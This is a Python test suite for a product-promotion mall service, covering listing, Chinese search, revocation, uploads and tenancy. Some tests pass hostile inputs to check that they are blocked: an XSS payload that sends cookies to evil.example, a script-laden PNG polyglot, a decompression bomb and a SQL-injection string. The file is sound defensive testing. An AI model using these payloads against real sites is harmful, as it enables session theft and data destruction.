"""The issue's Done-when list, against the real services: promotion material, 上架/下架, the public
catalogue and Chinese search, revocation, hostile uploads and rich text, tenancy, bad input."""

from __future__ import annotations

import asyncio
import io
import uuid

import aio_pika
from kit.testing.fixtures import consumer_listening, wait_until
from kit.testing.openapi import assert_documented
from PIL import Image


async def test_forerunner_and_star_products_are_listed_found_and_hidden(
    client, deliver, enterprise, category, published, complete, emitted
):
    fridge_cat = await category("家用电冰箱", "家用电器")
    coat_cat = await category("羽绒服", "纺织服装")
    midea = await enterprise("美途集团股份有限公司", region="440606", brand="美途")
    bosideng = await enterprise("波司登羽绒服装有限公司", region="320581", brand="波司登")
    declaration_id, [fridge, _other] = await published(
        midea, fridge_cat, ("美途冰箱", "BCD-520WKPZM"), ("美途冰箱", "BCD-406")
    )
    await deliver(
        "certificate.issued",
        {
            "certificate_id": str(uuid.uuid4()),
            "number": "LP-2023-0001",
            "verify_code": "AbC123xyz",
            "declaration_id": str(declaration_id),
            "org_id": str(midea.org_id),
            "enterprise_name": midea.name,
            "standard_no": "Q/MDB 102-2023",
            "standard_name": "家用电冰箱",
            "product_id": str(fridge_cat),
            "year": 2023,
            "issued_on": "2023-09-15",
            "valid_until": "2026-09-14",
        },
        producer="certificate",
    )
    coat = uuid.uuid4()
    await deliver(
        "star_product.declared",
        {
            "star_product_id": str(coat),
            "org_id": str(bosideng.org_id),
            "enterprise_name": bosideng.name,
            "product_id": str(coat_cat),
            "product_name": "羽绒服",
            "field": "纺织服装",
            "name": "极寒系列羽绒服",
            "model": "B20145",
            "star": 4,
            "plan_version": 2,
            "declared_at": "2023-10-01T00:00:00+00:00",
            "results": [
                {
                    "code": "E1",
                    "name": "充绒量",
                    "unit": "g",
                    "value": "220",
                    "star_reached": 4,
                    "passed": True,
                }
            ],
        },
        producer="declaration",
    )

    # The enterprise sees its eligible models with what is missing, in Chinese.
    r = await client.get("/api/mall/promotions", headers=midea.headers)
    assert r.status_code == 200
    assert {i["model_id"] for i in r.json()["items"]} == {str(fridge), str(_other)}
    item = next(i for i in r.json()["items"] if i["model_id"] == str(fridge))
    assert [m["label"] for m in item["missing"]] == ["产品介绍", "产品图片（至少 1 张）", "品牌信息"]

    # Listing incomplete material is refused with the missing items.
    r = await client.post(f"/api/mall/promotions/{fridge}/list", headers=midea.headers)
    assert r.status_code == 409
    assert r.json()["error"]["code"] == "promotion_incomplete"
    assert "产品介绍" in r.json()["error"]["message"] and "品牌信息" in r.json()["error"]["message"]
    assert await emitted("mall.promotion_completed", model_id=fridge) == []

    await complete(midea, fridge, "<p>美途一级能效冰箱，静音 36 分贝。</p>")
    await complete(bosideng, coat, "<p>极寒系列，充绒量 220 克。</p>")
    # Completion is announced once per model, with what the certificate service needs for the label.
    [done] = await emitted("mall.promotion_completed", model_id=coat)
    assert done["source"] == "star" and done["star"] == 4 and done["star_product_id"] == str(coat)
    await client.put(
        f"/api/mall/promotions/{coat}", json={"introduction": "<p>改过的介绍</p>"}, headers=bosideng.headers
    )
    assert len(await emitted("mall.promotion_completed", model_id=coat)) == 1

    # Not listed yet: the public mall does not show them, not even by id.
    assert (await client.get(f"/api/mall/products/{fridge}")).status_code == 404
    r = await client.get("/api/mall/products", params={"product_id": str(fridge_cat)})
    assert r.json()["total"] == 0

    for ent, model in ((midea, fridge), (bosideng, coat)):
        r = await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)
        assert r.status_code == 200, r.text
        assert r.json()["status"] == "listed" and r.json()["status_label"] == "已上架"
    assert len(await emitted("mall.product_listed", model_id=fridge)) == 1

    # Under its category (field and key-field product), with counts.
    r = await client.get("/api/mall/categories")
    assert r.json()["total"] == len(r.json()["items"]) == 2
    fields = {f["field"]: f for f in r.json()["items"]}
    assert any(p["product_id"] == str(fridge_cat) and p["count"] == 1 for p in fields["家用电器"]["products"])
    assert any(p["product_id"] == str(coat_cat) and p["count"] == 1 for p in fields["纺织服装"]["products"])
    r = await client.get("/api/mall/products", params={"product_id": str(fridge_cat)})
    assert [i["id"] for i in r.json()["items"]] == [str(fridge)]
    assert r.json()["items"][0]["star"] == 5 and r.json()["items"][0]["brand_name"] == "美途"

    # Chinese keywords find them; filters narrow; other words do not match.
    async def ids(**params) -> set[str]:
        r = await client.get("/api/mall/products", params={"page_size": 100, **params})
        assert r.status_code == 200, r.text
        return {i["id"] for i in r.json()["items"]}

    assert str(fridge) in await ids(q="冰箱")
    assert str(fridge) in await ids(q="bcd-520")
    assert str(coat) in await ids(q="羽绒")
    assert str(coat) in await ids(q="极寒 波司登")
    assert str(coat) not in await ids(q="冰箱")
    assert str(fridge) not in await ids(q="冰箱 羽绒")
    assert await ids(q="冰箱", star=4, product_id=str(fridge_cat)) == set()
    assert await ids(star=4, product_id=str(coat_cat)) == {str(coat)}
    assert await ids(region="320000", product_id=str(coat_cat)) == {str(coat)}
    assert await ids(region="110000", product_id=str(coat_cat)) == set()
    assert await ids(brand="波司登", product_id=str(coat_cat)) == {str(coat)}
    # Keyword and filters together (the filters travel as facets in the same index lookup).
    assert await ids(q="羽绒", region="320000", brand="波司登", star=4, category="纺织服装") == {str(coat)}
    assert await ids(q="羽绒", region="320581", product_id=str(coat_cat)) == {str(coat)}
    assert await ids(q="羽绒", region="110000", product_id=str(coat_cat)) == set()
    assert await ids(q="羽绒", brand="美途", product_id=str(coat_cat)) == set()
    assert await ids(q="冰箱", category="纺织服装", product_id=str(fridge_cat)) == set()
    assert await ids(q="bcd-520wk", category="家用电器", star=5, product_id=str(fridge_cat)) == {str(fridge)}

    # The product page: indicators, brand, pictures and the link to verify the certificate.
    r = await client.get(f"/api/mall/products/{fridge}")
    detail = r.json()
    assert detail["certificate"] == {"verify_code": "AbC123xyz", "verify_url": "/verify/AbC123xyz"}
    assert [i["name"] for i in detail["indicators"]] == ["能效指数", "噪声"]
    assert detail["brand"]["name"] == "美途" and detail["enterprise_name"] == midea.name
    assert detail["standard_no"] == "Q/MDB 102-2023" and len(detail["pictures"]) == 1
    await deliver(
        "label.issued",
        {
            "label_id": str(uuid.uuid4()),
            "number": "XJ-2023-0001",
            "verify_code": "StarLbl42",
            "model_id": str(coat),
            "org_id": str(bosideng.org_id),
            "kind": "star",
            "star": 4,
        },
        producer="certificate",
    )
    r = await client.get(f"/api/mall/products/{coat}")
    assert r.json()["indicators"][0] == {
        "code": "E1",
        "name": "充绒量",
        "unit": "g",
        "value": "220",
        "star_reached": 4,
        "passed": True,
    }
    assert r.json()["certificate"] is None
    assert r.json()["label"] == {"verify_code": "StarLbl42", "verify_url": "/verify/StarLbl42"}

    # 下架 hides the star product again.
    r = await client.post(f"/api/mall/promotions/{coat}/unlist", headers=bosideng.headers)
    assert r.json()["status"] == "unlisted"
    assert str(coat) not in await ids(q="羽绒")
    assert (await client.get(f"/api/mall/products/{coat}")).status_code == 404
    fields = {f["field"]: f for f in (await client.get("/api/mall/categories")).json()["items"]}
    assert all(p["product_id"] != str(coat_cat) for f in fields.values() for p in f["products"])
    everything = (await client.get("/api/mall/categories", params={"include_empty": True})).json()["items"]
    assert any(
        p["product_id"] == str(coat_cat) and p["count"] == 0 for f in everything for p in f["products"]
    )
    [unlisted] = await emitted("mall.product_unlisted", model_id=coat)
    assert unlisted["reason"] == "enterprise"

    # Revoking the certificate takes the forerunner product off the mall and says why.
    await deliver(
        "certificate.revoked",
        {
            "certificate_id": str(uuid.uuid4()),
            "number": "LP-2023-0001",
            "declaration_id": str(declaration_id),
            "org_id": str(midea.org_id),
            "model_ids": [str(fridge), str(_other)],
            "reason": "企业标准已废止",
        },
        producer="certificate",
    )
    assert str(fridge) not in await ids(q="冰箱")
    [unlisted] = await emitted("mall.product_unlisted", model_id=fridge)
    assert unlisted["reason"] == "certificate_revoked" and "撤销" in unlisted["reason_label"]
    assert unlisted["org_id"] == str(midea.org_id)
    r = await client.post(f"/api/mall/promotions/{fridge}/list", headers=midea.headers)
    assert r.status_code == 409 and r.json()["error"]["code"] == "certificate_not_valid"
    r = await client.get(f"/api/mall/promotions/{fridge}", headers=midea.headers)
    assert r.json()["status"] == "withdrawn"


async def test_pictures_are_checked_by_content_and_capped_at_five(
    picture, client, enterprise, category, published
):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-1"))
    url = f"/api/mall/promotions/{model}/pictures"

    # EXIF (camera, GPS) is gone after re-encoding; a thumbnail is made.
    r = await client.post(
        url, files={"file": ("a.jpg", picture(size=(800, 600), exif=True), "image/jpeg")}, headers=ent.headers
    )
    assert r.status_code == 201, r.text
    first = r.json()
    stored = await client.get(first["url"], headers=ent.headers)
    assert stored.status_code == 200 and stored.headers["content-type"] == "image/jpeg"
    assert b"SecretCam" not in stored.content
    assert not Image.open(io.BytesIO(stored.content)).getexif()
    thumb = await client.get(first["thumb_url"], headers=ent.headers)
    assert Image.open(io.BytesIO(thumb.content)).size == (300, 225)

    # A PDF renamed to .png is refused by its content.
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    r = await client.post(url, files={"file": ("photo.png", pdf, "image/png")}, headers=ent.headers)
    assert r.status_code == 415 and r.json()["error"]["code"] == "file_type_not_allowed"
    assert "JPG" in r.json()["error"]["message"]

    # 501 KB is over the seed's 500 KB.
    big = picture()
    big += b"\0" * (501 * 1024 - len(big))
    r = await client.post(url, files={"file": ("big.jpg", big, "image/jpeg")}, headers=ent.headers)
    assert r.status_code == 413 and r.json()["error"]["code"] == "file_too_large"
    assert "500 KB" in r.json()["error"]["message"]

    # A decompression bomb: a small file declaring 100 million pixels.
    bomb = io.BytesIO()
    Image.new("L", (10_000, 10_000)).save(bomb, format="PNG", optimize=True)
    assert len(bomb.getvalue()) < 500 * 1024
    r = await client.post(
        url, files={"file": ("bomb.png", bomb.getvalue(), "image/png")}, headers=ent.headers
    )
    assert r.status_code == 422 and r.json()["error"]["code"] == "image_too_many_pixels"

    # A PNG with a script appended (polyglot) is refused.
    r = await client.post(
        url,
        files={"file": ("x.png", picture("PNG") + b"<script>alert(1)</script>", "image/png")},
        headers=ent.headers,
    )
    assert r.status_code == 415

    for n in range(4):
        r = await client.post(
            url,
            files={"file": (f"{n}.png", picture("PNG", colour=(n * 40, 0, 0)), "image/png")},
            headers=ent.headers,
        )
        assert r.status_code == 201, r.text
    r = await client.post(url, files={"file": ("6.jpg", picture(), "image/jpeg")}, headers=ent.headers)
    assert r.status_code == 409 and r.json()["error"]["code"] == "picture_limit_reached"
    assert "最多 5 张" in r.json()["error"]["message"]

    # Reorder: the cover follows the first; a wrong set of ids is refused.
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
    ids = [p["id"] for p in promo["pictures"]]
    assert len(ids) == 5 and promo["picture_count"] == 5
    r = await client.put(f"{url}/order", json={"picture_ids": ids[::-1]}, headers=ent.headers)
    assert r.status_code == 200 and [p["id"] for p in r.json()["items"]] == ids[::-1]
    assert (r.json()["total"], r.json()["page"]) == (5, 1)
    r = await client.put(f"{url}/order", json={"picture_ids": ids[:2]}, headers=ent.headers)
    assert r.status_code == 422 and r.json()["error"]["code"] == "picture_order_invalid"

    # Deleting frees a place; the deleted picture is gone.
    r = await client.delete(f"{url}/{ids[0]}", headers=ent.headers)
    assert r.status_code == 204
    assert (await client.get(f"/api/mall/pictures/{ids[0]}", headers=ent.headers)).status_code == 404
    r = await client.post(url, files={"file": ("6.jpg", picture(), "image/jpeg")}, headers=ent.headers)
    assert r.status_code == 201


async def test_script_in_the_introduction_is_neutralised(picture, client, enterprise, category, published):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-2"))
    r = await client.post(
        f"/api/mall/promotions/{model}/pictures",
        params={"kind": "intro"},
        files={"file": ("in.png", picture("PNG"), "image/png")},
        headers=ent.headers,
    )
    assert r.status_code == 201
    own = r.json()["url"]
    hostile = (
        '<p onmouseover="alert(1)">好冰箱<script>document.location="https://evil.example/?"+document.cookie</script></p>'
        '<img src=x onerror=alert(1)><a href="javascript:alert(1)">点击</a>'
        f'<img src="{own}" alt="内部结构"><iframe src="https://evil.example"></iframe>'
    )
    r = await client.put(f"/api/mall/promotions/{model}", json={"introduction": hostile}, headers=ent.headers)
    assert r.status_code == 200
    intro = r.json()["introduction"]
    for marker in ("<script", "onmouseover", "onerror", "javascript:", "<iframe", "evil.example"):
        assert marker not in intro
    assert "好冰箱" in intro and f'src="{own}"' in intro
    assert all(m["code"] != "introduction" for m in r.json()["missing"])
    # Intro pictures do not count as the required product pictures.
    assert r.json()["picture_count"] == 0 and any(m["code"] == "pictures" for m in r.json()["missing"])

    # An introduction that is nothing but script is empty, and so still missing.
    r = await client.put(
        f"/api/mall/promotions/{model}",
        json={"introduction": "<script>alert(1)</script>"},
        headers=ent.headers,
    )
    assert r.json()["introduction"] == "" and any(m["code"] == "introduction" for m in r.json()["missing"])


async def test_another_enterprise_gets_404_everywhere(
    picture, client, enterprise, category, published, complete, make_token
):
    a = await enterprise("甲公司")
    b = await enterprise("乙公司")
    _, [model] = await published(a, await category(), ("甲冰箱", "A-1"))
    await client.post(
        f"/api/mall/promotions/{model}/pictures",
        files={"file": ("a.jpg", picture(), "image/jpeg")},
        headers=a.headers,
    )
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=a.headers)).json()
    pic = promo["pictures"][0]["id"]

    calls = [
        ("GET", f"/api/mall/promotions/{model}", None),
        ("PUT", f"/api/mall/promotions/{model}", {"introduction": "<p>乙改的</p>"}),
        ("PUT", f"/api/mall/promotions/{model}/pictures/order", {"picture_ids": [pic]}),
        ("DELETE", f"/api/mall/promotions/{model}/pictures/{pic}", None),
        ("POST", f"/api/mall/promotions/{model}/list", None),
        ("POST", f"/api/mall/promotions/{model}/unlist", None),
    ]
    for method, url, body in calls:
        r = await client.request(method, url, json=body, headers=b.headers)
        assert r.status_code == 404, (method, url, r.text)
        assert r.json()["error"]["code"] == "product_not_found"
    r = await client.post(
        f"/api/mall/promotions/{model}/pictures",
        files={"file": ("b.jpg", picture(), "image/jpeg")},
        headers=b.headers,
    )
    assert r.status_code == 404
    # An unlisted product's picture is only for its owner.
    assert (await client.get(f"/api/mall/pictures/{pic}", headers=b.headers)).status_code == 404
    assert (await client.get(f"/api/mall/pictures/{pic}")).status_code == 404
    # A's material is untouched, and B cannot pick A's brand for its own product either.
    after = (await client.get(f"/api/mall/promotions/{model}", headers=a.headers)).json()
    assert after["introduction"] == "" and after["picture_count"] == 1
    _, [b_model] = await published(b, await category(), ("乙冰箱", "B-1"))
    r = await client.put(
        f"/api/mall/promotions/{b_model}", json={"brand_id": str(a.brand_id)}, headers=b.headers
    )
    assert r.status_code == 404 and r.json()["error"]["code"] == "brand_not_found"
    # Other roles may not edit promotion material; no token at all is 401.
    agency = make_token("agency")
    r = await client.get(f"/api/mall/promotions/{model}", headers={"Authorization": f"Bearer {agency}"})
    assert r.status_code == 403
    assert (await client.get(f"/api/mall/promotions/{model}")).status_code == 401


async def test_picture_answers_are_the_documented_ones(
    app, client, enterprise, category, published, complete
):
    """A picture is JPEG or PNG bytes (or a 304), never JSON, as the document now says (the fuzz suite
    checks answers against it but rarely reaches a picture)."""
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-9"))
    await complete(ent, model)
    pic = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()["pictures"][0]
    own = await client.get(pic["url"], headers=ent.headers)
    assert (await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)).status_code == 200
    thumb = await client.get(pic["thumb_url"])
    again = await client.get(pic["thumb_url"], headers={"If-None-Match": thumb.headers["etag"]})
    missing = await client.get(f"/api/mall/pictures/{uuid.uuid4()}")
    assert [a.status_code for a in (own, thumb, again, missing)] == [200, 200, 304, 404]
    for answer in (own, thumb, again, missing):
        assert_documented(app, answer)
    paths = app.openapi()["paths"]
    for path in ("/api/mall/pictures/{picture_id}", "/api/mall/brands/{brand_id}/logo"):
        assert "application/json" not in paths[path]["get"]["responses"]["200"]["content"], path


async def test_public_pictures_have_caching_headers(client, enterprise, category, published, complete):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-3"))
    await complete(ent, model)
    pic = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()["pictures"][0]
    r = await client.get(pic["url"], headers=ent.headers)
    assert r.headers["cache-control"] == "no-store"  # an authenticated answer is never stored
    assert (await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)).status_code == 200
    r = await client.get(pic["thumb_url"])
    assert r.status_code == 200
    assert r.headers["cache-control"].startswith("public, max-age=")
    assert r.headers["x-content-type-options"] == "nosniff"
    etag = r.headers["etag"]
    again = await client.get(pic["thumb_url"], headers={"If-None-Match": etag})
    assert again.status_code == 304 and again.content == b""


async def test_listed_material_must_stay_complete_and_deleted_brand_unlists(
    client, deliver, enterprise, category, published, complete, emitted
):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-4"))
    await complete(ent, model)
    await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)
    pic = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()["pictures"][0]["id"]
    r = await client.delete(f"/api/mall/promotions/{model}/pictures/{pic}", headers=ent.headers)
    assert r.status_code == 409 and r.json()["error"]["code"] == "listed_material_incomplete"
    r = await client.put(f"/api/mall/promotions/{model}", json={"introduction": ""}, headers=ent.headers)
    assert r.status_code == 409 and "产品介绍" in r.json()["error"]["message"]
    assert (await client.get(f"/api/mall/pictures/{pic}")).status_code == 200

    await deliver(
        "enterprise.brand_changed",
        {
            "org_id": str(ent.org_id),
            "brand_id": str(ent.brand_id),
            "name": "美途",
            "story": "",
            "deleted": True,
        },
    )
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
    assert promo["status"] == "unlisted" and any(m["code"] == "brand" for m in promo["missing"])
    assert promo["brands"] == []
    [event] = await emitted("mall.product_unlisted", model_id=model)
    assert event["reason"] == "brand_removed"


async def test_appended_model_joins_its_declaration(client, deliver, enterprise, category, published):
    ent = await enterprise()
    cat = await category()
    declaration_id, _ = await published(ent, cat, ("美途冰箱", "BCD-5"))
    appended = uuid.uuid4()
    await deliver(
        "declaration.model_appended",
        {
            "declaration_id": str(declaration_id),
            "org_id": str(ent.org_id),
            "model": {
                "model_id": str(appended),
                "name": "美途冰箱",
                "spec": "BCD-600",
                "intro": "<p>新增型号</p><script>x()</script>",
            },
        },
        producer="declaration",
    )
    promo = (await client.get(f"/api/mall/promotions/{appended}", headers=ent.headers)).json()
    assert promo["source"] == "forerunner" and promo["star"] == 5 and promo["product_id"] == str(cat)
    assert promo["standard_no"] == "Q/MDB 102-2023"
    assert promo["introduction"] == "<p>新增型号</p>"


async def test_redelivered_event_has_no_second_effect(
    runtime, deliver, enterprise, category, published, client
):
    ent = await enterprise()
    declaration_id, [model] = await published(ent, await category(), ("美途冰箱", "BCD-7"))
    from kit.bus import Envelope

    envelope = Envelope(
        type="certificate.expired",
        producer="certificate",
        payload={
            "certificate_id": str(uuid.uuid4()),
            "number": "LP-2023-0002",
            "declaration_id": str(declaration_id),
            "org_id": str(ent.org_id),
            "model_ids": [str(model)],
            "reason": "expired",
        },
    )
    assert await runtime.consumer.handle(envelope)
    assert not await runtime.consumer.handle(envelope)
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
    assert promo["status"] == "withdrawn" and promo["withdrawn_reason"] == "certificate_expired"


async def test_events_arrive_through_the_bus(client, runtime, mall_settings, make_token):
    """The mall's queue is bound to what it consumes: a star product published on the exchange shows up."""
    await consumer_listening(runtime, timeout=15)
    org_id, model_id = uuid.uuid4(), uuid.uuid4()
    connection = await aio_pika.connect_robust(mall_settings.amqp_url)
    async with connection:
        channel = await connection.channel()
        exchange = await channel.declare_exchange(
            mall_settings.exchange_name, aio_pika.ExchangeType.TOPIC, durable=True
        )
        from kit.bus import Envelope

        envelope = Envelope(
            type="star_product.declared",
            producer="declaration",
            payload={
                "star_product_id": str(model_id),
                "org_id": str(org_id),
                "enterprise_name": "丙公司",
                "product_id": str(uuid.uuid4()),
                "product_name": "羽绒服",
                "field": "纺织服装",
                "name": "轻薄羽绒服",
                "model": "C-1",
                "star": 3,
                "plan_version": 1,
                "results": [],
                "intro": "<p>轻薄保暖</p>",
                "declared_at": "2023-10-01T00:00:00+00:00",
            },
        )
        await exchange.publish(
            aio_pika.Message(envelope.model_dump_json().encode()), routing_key=envelope.routing_key
        )
    headers = {"Authorization": f"Bearer {make_token('enterprise', org_id=org_id)}"}

    async def arrived() -> bool:
        return (await client.get(f"/api/mall/promotions/{model_id}", headers=headers)).status_code == 200

    await wait_until(arrived, timeout=15)
    body = (await client.get(f"/api/mall/promotions/{model_id}", headers=headers)).json()
    assert body["star"] == 3 and body["source_label"] == "自我声明星级产品"
    assert body["introduction"] == "<p>轻薄保暖</p>"


async def test_bad_input_is_a_clear_4xx_never_500(picture, client, enterprise, category, published):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-8"))
    cases = [
        ("GET", "/api/mall/products", {"params": {"star": 9}}, 422),
        ("GET", "/api/mall/products", {"params": {"star": "五"}}, 422),
        ("GET", "/api/mall/products", {"params": {"page_size": 1000}}, 422),
        ("GET", "/api/mall/products", {"params": {"page": 0}}, 422),
        ("GET", "/api/mall/products", {"params": {"page": 51}}, 422),
        ("GET", "/api/mall/products", {"params": {"sort": "price"}}, 422),
        ("GET", "/api/mall/products", {"params": {"region": "北京"}}, 422),
        ("GET", "/api/mall/products", {"params": {"q": "冰" * 51}}, 422),
        ("GET", "/api/mall/products", {"params": {"product_id": "not-a-uuid"}}, 422),
        ("GET", "/api/mall/products/not-a-uuid", {}, 422),
        ("GET", f"/api/mall/products/{uuid.uuid4()}", {}, 404),
        ("GET", f"/api/mall/pictures/{uuid.uuid4()}", {"params": {"size": "huge"}}, 422),
        ("GET", f"/api/mall/pictures/{uuid.uuid4()}", {}, 404),
        ("GET", "/api/mall/promotions", {"params": {"status": "sold"}, "headers": ent.headers}, 422),
        ("PUT", f"/api/mall/promotions/{model}", {"json": {"status": "listed"}, "headers": ent.headers}, 422),
        ("PUT", f"/api/mall/promotions/{model}", {"json": {"brand_id": "x"}, "headers": ent.headers}, 422),
        ("PUT", f"/api/mall/promotions/{model}", {"json": {"introduction": 5}, "headers": ent.headers}, 422),
        ("PUT", f"/api/mall/promotions/{model}", {"content": b"{not json", "headers": ent.headers}, 422),
        (
            "PUT",
            f"/api/mall/promotions/{model}",
            {"json": {"introduction": "<p>长</p>" * 10_000}, "headers": ent.headers},
            422,
        ),
        (
            "PUT",
            f"/api/mall/promotions/{model}/pictures/order",
            {"json": {"picture_ids": "x"}, "headers": ent.headers},
            422,
        ),
        ("POST", f"/api/mall/promotions/{model}/pictures", {"headers": ent.headers}, 422),
        (
            "POST",
            f"/api/mall/promotions/{model}/pictures",
            {"files": {"file": ("e.jpg", b"", "image/jpeg")}, "headers": ent.headers},
            422,
        ),
        (
            "POST",
            f"/api/mall/promotions/{model}/pictures",
            {"files": {"file": ("t.jpg", b"\xff\xd8\xff\xe0broken", "image/jpeg")}, "headers": ent.headers},
            422,
        ),
        (
            "POST",
            f"/api/mall/promotions/{model}/pictures",
            {
                "params": {"kind": "banner"},
                "files": {"file": ("a.jpg", picture(), "image/jpeg")},
                "headers": ent.headers,
            },
            422,
        ),
        ("GET", "/api/mall/promotions", {"headers": {"Authorization": "Bearer nonsense"}}, 401),
    ]
    for method, url, kw, expected in cases:
        r = await client.request(method, url, **kw)
        assert r.status_code == expected, (
            method,
            url,
            kw.get("params") or kw.get("json"),
            r.status_code,
            r.text[:300],
        )
        assert r.json()["error"]["message"], r.text
    # Search input with LIKE wildcards and quotes is literal text, not a pattern or SQL.
    for q in ("%", "_", "'; DROP TABLE products; --", "\\", "冰箱%"):
        r = await client.get("/api/mall/products", params={"q": q})
        assert r.status_code == 200 and r.json()["total"] == 0, q
    await asyncio.sleep(0)


async def test_storage_outage_is_503_and_leaves_nothing_behind(
    picture, client, runtime, enterprise, category, published, monkeypatch
):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-9"))
    real_put = runtime.storage.put
    calls: list[str] = []

    async def second_put_fails(bucket, key, data, **kw):
        calls.append(key)
        if len(calls) == 2:
            raise ConnectionError("S3 away")
        await real_put(bucket, key, data, **kw)

    monkeypatch.setattr(runtime.storage, "put", second_put_fails)
    r = await client.post(
        f"/api/mall/promotions/{model}/pictures",
        files={"file": ("a.jpg", picture(), "image/jpeg")},
        headers=ent.headers,
    )
    assert r.status_code == 503 and r.json()["error"]["code"] == "storage_unavailable"
    monkeypatch.undo()
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
    assert promo["picture_count"] == 0 and promo["pictures"] == []
    # The object written before the failure was removed again.
    objects = await asyncio.to_thread(
        lambda: [
            o.object_name
            for o in runtime.storage.client.list_objects(
                "lp-mall", prefix=f"pictures/{model}", recursive=True
            )
        ]
    )
    assert objects == []


async def test_parallel_uploads_never_exceed_five(picture, client, enterprise, category, published):
    ent = await enterprise()
    _, [model] = await published(ent, await category(), ("美途冰箱", "BCD-10"))

    async def upload(n: int):
        return await client.post(
            f"/api/mall/promotions/{model}/pictures",
            files={"file": (f"{n}.png", picture("PNG", colour=(n * 30, 0, 0)), "image/png")},
            headers=ent.headers,
        )

    results = await asyncio.gather(*(upload(n) for n in range(7)))
    assert sorted(r.status_code for r in results) == [201] * 5 + [409] * 2
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
    assert promo["picture_count"] == 5 and sorted(p["position"] for p in promo["pictures"]) == [0, 1, 2, 3, 4]


async def test_revocation_seen_before_publication_still_withdraws(
    client, deliver, enterprise, category, published
):
    """Events of different producers may arrive in any order: a certificate revoked before the mall saw
    the declaration still keeps its models off the mall."""
    ent = await enterprise()
    cat = await category()
    declaration_id = uuid.uuid4()
    await deliver(
        "certificate.revoked",
        {
            "certificate_id": str(uuid.uuid4()),
            "number": "LP-2023-0099",
            "declaration_id": str(declaration_id),
            "org_id": str(ent.org_id),
            "model_ids": [],
            "reason": "撤销",
        },
        producer="certificate",
    )
    _, [model] = await published(ent, cat, ("冰箱", "X-1"), declaration_id=declaration_id)
    promo = (await client.get(f"/api/mall/promotions/{model}", headers=ent.headers)).json()
    assert promo["status"] == "withdrawn" and promo["withdrawn_reason"] == "certificate_revoked"


async def test_enterprise_changes_reach_listed_products(
    client, deliver, enterprise, category, published, complete
):
    ent = await enterprise("旧名称电器有限公司", region="440606")
    cat = await category()
    _, [model] = await published(ent, cat, ("冰箱", "RN-1"))
    await complete(ent, model)
    assert (await client.post(f"/api/mall/promotions/{model}/list", headers=ent.headers)).status_code == 200
    await deliver(
        "enterprise.updated",
        {
            "org_id": str(ent.org_id),
            "name": "新名称智造有限公司",
            "credit_code": "91440606722473344C",
            "region_code": "330106",
        },
        producer="auth",
    )
    await deliver(
        "enterprise.brand_changed",
        {
            "org_id": str(ent.org_id),
            "brand_id": str(ent.brand_id),
            "name": "新品牌",
            "story": "",
            "deleted": False,
        },
        producer="auth",
    )
    r = await client.get("/api/mall/products", params={"q": "新名称智造", "product_id": str(cat)})
    [item] = r.json()["items"]
    assert item["enterprise_name"] == "新名称智造有限公司" and item["region_code"] == "330106"
    assert item["brand_name"] == "新品牌"
    r = await client.get("/api/mall/products", params={"q": "冰箱", "region": "330000", "brand": "新品牌"})
    assert str(model) in {i["id"] for i in r.json()["items"]}
    r = await client.get("/api/mall/products", params={"q": "旧名称", "product_id": str(cat)})
    assert r.json()["total"] == 0
